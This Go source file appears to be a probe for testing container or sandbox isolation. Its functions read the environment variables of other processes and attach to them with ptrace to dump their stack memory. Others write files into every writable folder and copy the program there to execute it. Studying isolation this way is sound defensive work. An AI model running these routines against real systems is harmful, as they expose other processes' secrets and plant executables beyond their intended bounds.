package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

func environ([]string) error {
	fmt.Println(strings.Join(os.Environ(), "\n"))
	return nil
}

// others are the processes that can be seen here and that are not of this attack.
func others() []int {
	found := []int{}
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err == nil && pid != os.Getpid() && pid != os.Getppid() {
			found = append(found, pid)
		}
	}
	return found
}

func neighbours([]string) error {
	last := errors.New("no other process is seen")
	for _, pid := range others() {
		content, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err == nil {
			fmt.Printf("%d: %s\n", pid, bytes.ReplaceAll(content, []byte{0}, []byte{'\n'}))
		}
		last = err
	}
	return last
}

type vector struct{ base, length uintptr }

// memoryOfService attaches to the other processes, without stopping them, and reads what lies on their stacks.
func memoryOfService([]string) error {
	last := errors.New("no other process is seen")
	for _, pid := range others() {
		if _, last = call(sysPtrace, 0x4206, uintptr(pid), 0, 0); last != nil { // PTRACE_SEIZE; ends with this process
			last = fmt.Errorf("ptrace: %w", last)
			continue
		}
		maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
		if last = err; err != nil {
			continue
		}
		for _, line := range strings.Split(string(maps), "\n") {
			var from, to uintptr
			if !strings.Contains(line, "[stack]") {
				continue
			}
			fmt.Sscanf(line, "%x-%x", &from, &to)
			content := make([]byte, min(to-from, 128<<10))
			here := vector{uintptr(unsafe.Pointer(&content[0])), uintptr(len(content))}
			there := vector{to - here.length, here.length}
			if _, last = call(sysProcessVMReadv, uintptr(pid), at(unsafe.Pointer(&here)), 1, at(unsafe.Pointer(&there)), 1, 0); last == nil {
				os.Stdout.Write(bytes.ReplaceAll(bytes.Trim(content, "\x00"), []byte{0}, []byte{'\n'}))
			}
		}
	}
	return last
}

func read(words []string) error {
	var last error
	for _, file := range words {
		content, err := os.ReadFile(file)
		os.Stdout.Write(content)
		last = err
	}
	return last
}

// write FILE A B
func write(words []string) error {
	if err := os.WriteFile(words[0], []byte(words[1]+words[2]), 0o644); err != nil {
		return err
	}
	content, err := os.ReadFile(words[0])
	fmt.Printf("%s: %s\n", filepath.Dir(words[0]), content)
	return err
}

// places are the folders in which something may be written: where file systems are mounted, and where programs usually write.
func places() []string {
	found, seen := []string{}, map[string]bool{}
	add := func(folder string) {
		if info, err := os.Stat(folder); err == nil && info.IsDir() && !seen[folder] && folder != "/host" {
			seen[folder] = true
			found = append(found, folder)
		}
	}
	for _, folder := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run", "/var/run", "/run/lock", "/var/lock", "/var/cache", "/var/log", "/var/lib"} {
		add(folder)
	}
	homes, _ := filepath.Glob("/home/*")
	for _, folder := range append(homes, "/root", "/var/www", "/srv", "/opt", "/data") {
		add(folder)
	}
	if here, err := os.Getwd(); err == nil {
		add(here)
	}
	mounts, _ := os.ReadFile("/proc/self/mountinfo")
	for _, line := range strings.Split(string(mounts), "\n") {
		if fields := strings.Fields(line); len(fields) > 5 && !strings.HasPrefix(fields[4], "/proc") && !strings.HasPrefix(fields[4], "/sys") {
			add(fields[4])
		}
	}
	return found
}

// everywhere tries a deed in every place; one that works is enough.
func everywhere(name string, deed func(file string) error) error {
	last := errors.New("no folder")
	worked := false
	for _, folder := range places() {
		if err := deed(filepath.Join(folder, name)); err == nil {
			worked = true
		} else if !errors.Is(err, syscall.EROFS) {
			last = err
		}
	}
	if worked {
		return nil
	}
	return last
}

func writeAny(words []string) error {
	return everywhere(words[0], func(file string) error {
		defer os.Remove(file)
		return write([]string{file, words[1], words[2]})
	})
}

// runAt FILE A B: a program of the attacker's own, written and started there.
func runAt(words []string) error {
	content, err := os.ReadFile(os.Args[0])
	if err != nil {
		return err
	}
	if err := os.WriteFile(words[0], content, 0o755); err != nil {
		return err
	}
	defer os.Remove(words[0])
	output, err := exec.Command(words[0], "hello", words[1], words[2]).CombinedOutput()
	if err == nil {
		fmt.Printf("%s: %s", filepath.Dir(words[0]), output)
	}
	return err
}

func runAny(words []string) error {
	return everywhere(words[0], func(file string) error { return runAt([]string{file, words[1], words[2]}) })
}
